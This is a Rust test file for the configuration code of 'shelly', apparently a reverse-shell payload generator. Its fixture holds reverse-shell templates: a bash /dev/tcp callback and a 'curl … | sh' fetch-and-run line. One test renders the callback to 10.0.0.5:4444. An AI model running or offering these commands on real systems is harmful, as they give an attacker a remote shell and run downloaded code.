use shelly::config::{
    ask_yes_no, default_http_port, ensure_exists, find_shell, has_templates, listener_kind,
    load_config, read_answer, render_template, text_members, Bootstrap, ConfigError,
    ListenerKind, MAX_DIGIT_RUN,
};

const CONFIG: &str = r#"{
    "shelly": {"default_http_svr": 8000},
    "shells": {
        "bash": {
            "templates": ["bash -i >& /dev/tcp/{ip}/{port} 0>&1", 7, "curl http://{ip}:{http_port}/x | sh"]
        },
        "socat": {
            "listener": "socat_raw",
            "serve": ["socat", null, "busybox"],
            "templates": "none"
        },
        "odd": {"listener": 3}
    }
}"#;

#[test]
fn a_text_that_is_not_json_is_refused() {
    assert_eq!(load_config("{"), Err(ConfigError::Malformed));
    assert_eq!(load_config(""), Err(ConfigError::Malformed));
    assert_eq!(load_config("{\"a\": }"), Err(ConfigError::Malformed));
    assert!(load_config("{}\n").is_ok());
    assert_eq!(load_config("{\"a\": [1, 2]}"), Ok(json::parse("{\"a\":[1,2]}").unwrap()));
}

#[test]
fn a_text_with_too_long_a_run_of_digits_is_refused_unread() {
    assert_eq!(MAX_DIGIT_RUN, 32767);
    let zeros = "0".repeat(32769);
    assert_eq!(load_config(&format!("0.{}", zeros)), Err(ConfigError::NumberTooLong));
    assert_eq!(load_config(&format!("{{\"a\": 1.{}}}", zeros)), Err(ConfigError::NumberTooLong));
    assert_eq!(load_config(&format!("\"{}\"", zeros)), Err(ConfigError::NumberTooLong));
    assert_eq!(load_config(&"7".repeat(32768)), Err(ConfigError::NumberTooLong));
    let fits = "0".repeat(32767);
    assert!(load_config(&format!("0.{}", fits)).is_ok());
    assert!(load_config(&format!("[0.{}, 1.{}]", fits, fits)).is_ok());
    assert_eq!(load_config(&format!("0.{}x", fits)), Err(ConfigError::Malformed));
}

#[test]
fn the_delivery_port_is_read_from_the_configuration() {
    let config = load_config(CONFIG).expect("valid configuration");
    assert_eq!(default_http_port(&config), Some(8000));
    assert_eq!(default_http_port(&load_config("{}").unwrap()), None);
    assert_eq!(default_http_port(&load_config("[1]").unwrap()), None);
    let config = load_config("{\"shelly\": {\"default_http_svr\": 65536}}").unwrap();
    assert_eq!(default_http_port(&config), None);
    let config = load_config("{\"shelly\": {\"default_http_svr\": 65535}}").unwrap();
    assert_eq!(default_http_port(&config), Some(65535));
    let config = load_config("{\"shelly\": {\"default_http_svr\": -1}}").unwrap();
    assert_eq!(default_http_port(&config), None);
}

#[test]
fn the_listener_follows_the_shell() {
    let config = load_config(CONFIG).expect("valid configuration");
    assert_eq!(listener_kind(&config, "socat"), ListenerKind::SocatRaw);
    assert_eq!(listener_kind(&config, "bash"), ListenerKind::Netcat);
    assert_eq!(listener_kind(&config, "odd"), ListenerKind::Netcat);
    assert_eq!(listener_kind(&config, "unknown"), ListenerKind::Netcat);
    assert_eq!(listener_kind(&config, ""), ListenerKind::Netcat);
    assert_eq!(listener_kind(&load_config("{}").unwrap(), "socat"), ListenerKind::Netcat);
}

#[test]
fn a_shell_is_found_by_its_name() {
    let config = load_config(CONFIG).expect("valid configuration");
    assert!(find_shell(&config, "bash").is_some());
    assert!(find_shell(&config, "Bash").is_none());
    assert!(find_shell(&config, "").is_none());
    let with_empty = load_config("{\"shells\": {\"\": {}}}").unwrap();
    assert!(find_shell(&with_empty, "").is_none());
}

#[test]
fn the_texts_of_a_list_are_gathered_in_order() {
    let config = load_config(CONFIG).expect("valid configuration");
    let socat = find_shell(&config, "socat").expect("the shell is there");
    assert_eq!(text_members(&socat["serve"]), vec!["socat".to_string(), "busybox".to_string()]);
    assert!(text_members(&socat["templates"]).is_empty());
    assert!(text_members(&socat["absent"]).is_empty());
    assert!(!has_templates(socat));
    let bash = find_shell(&config, "bash").expect("the shell is there");
    assert!(has_templates(bash));
    assert_eq!(text_members(&bash["templates"]).len(), 2);
    let odd = find_shell(&config, "odd").expect("the shell is there");
    assert!(!has_templates(odd));
}

#[test]
fn a_template_is_filled_in() {
    assert_eq!(
        render_template("bash -i >& /dev/tcp/{ip}/{port} 0>&1", "10.0.0.5", 4444, 8000),
        "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"
    );
    assert_eq!(
        render_template("{ip}:{http_port} {ip}:{port} {other}", "h", 1, 65535),
        "h:65535 h:1 {other}"
    );
    assert_eq!(render_template("", "h", 1, 2), "");
    assert_eq!(render_template("{ip}", "{port}", 7, 2), "7");
}

#[test]
fn yes_and_no_are_read_in_any_case() {
    assert_eq!(ask_yes_no("y\n"), Some(true));
    assert_eq!(ask_yes_no("  YES  \n"), Some(true));
    assert_eq!(ask_yes_no("Yes"), Some(true));
    assert_eq!(ask_yes_no("n\n"), Some(false));
    assert_eq!(ask_yes_no("No\n"), Some(false));
    assert_eq!(ask_yes_no("\n"), None);
    assert_eq!(ask_yes_no("maybe\n"), None);
    assert_eq!(ask_yes_no("yes!\n"), None);
    assert_eq!(read_answer("y"), Some(true));
    assert_eq!(read_answer("Y"), None);
    assert_eq!(read_answer("no"), Some(false));
    assert_eq!(read_answer(""), None);
}

#[test]
fn the_configuration_is_made_only_with_consent() {
    assert_eq!(
        ensure_exists(false, true, false),
        Bootstrap { create_dir: true, create_file: true, aborted: false }
    );
    assert_eq!(
        ensure_exists(false, false, false),
        Bootstrap { create_dir: false, create_file: false, aborted: true }
    );
    assert_eq!(
        ensure_exists(true, false, false),
        Bootstrap { create_dir: false, create_file: true, aborted: false }
    );
    assert_eq!(
        ensure_exists(true, true, true),
        Bootstrap { create_dir: false, create_file: false, aborted: false }
    );
}
